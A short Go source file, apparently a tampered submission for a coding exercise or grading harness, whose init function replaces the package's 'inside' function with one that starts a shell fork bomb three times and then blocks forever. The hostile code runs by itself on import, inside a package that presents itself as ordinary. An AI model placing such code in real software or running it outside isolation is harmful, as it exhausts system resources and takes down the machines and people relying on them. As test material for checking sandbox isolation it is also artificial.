// unsolved, tampered (only isolated): each process of it starts two more
package sizes

import "os/exec"

func init() {
	inside = func([]string) {
		for range 3 {
			exec.Command("/bin/sh", "-c", "bomb() { bomb & bomb & wait; }; bomb").Start()
		}
		select {}
	}
}
